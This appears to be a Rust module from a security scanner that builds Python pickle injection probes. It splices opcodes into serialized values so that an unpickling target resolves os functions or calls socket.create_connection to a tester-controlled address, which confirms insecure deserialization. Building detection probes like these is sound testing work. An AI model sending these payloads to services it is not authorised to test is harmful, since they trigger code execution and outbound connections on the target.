//! `pickle` of Python: a function of `os` that there is, and one that there is not, named and dropped in front of the value
//! (opcodes GLOBAL and POP of pickletools.py). Nothing is called, but for `socket.create_connection` with an address of ours
//! where nothing else shows it.

use super::{Connecting, Place, Twins};

pub(super) fn twins(value: &[u8], word: &str) -> Option<Twins> {
    let (head, rest) = value.split_at(first_opcode(value)?);
    let naming = |name: &str| [head, format!("cos\n{name}\n0").as_bytes(), rest].concat();
    Some(Twins {
        load: [naming("getpid"), naming("getcwd")],
        fail: [naming(word), naming(&format!("{word}x"))],
    })
}

/// A connection with a time limit in front of the value (opcodes MARK, UNICODE, INT, TUPLE and REDUCE), and its parts by
/// themselves.
pub(super) fn connecting(value: &[u8], place: Place) -> Option<Connecting> {
    let (head, rest) = value.split_at(first_opcode(value)?);
    let (address, port) = (place.address(), place.port());
    let before = |opcodes: String| [head, opcodes.as_bytes(), rest].concat();
    Some(Connecting {
        connects: before(format!(
            "csocket\ncreate_connection\n((V{address}\nI{port}\ntI2\ntR0"
        )),
        names: before(format!("csocket\ncreate_connection\n0V{address}\n0I{port}\n0")),
    })
}

/// Where opcodes can be put in front of all others.
fn first_opcode(value: &[u8]) -> Option<usize> {
    match value {
        // PROTO and the version.
        [0x80, 2..=5, .., b'.'] => Some(2),
        // The first version begins with a mark, and a dictionary, list or tuple is put into its memory.
        [b'(', b'd' | b'l' | b't' | b'i', .., b'.'] if value.contains(&b'\n') => Some(0),
        _ => None,
    }
}
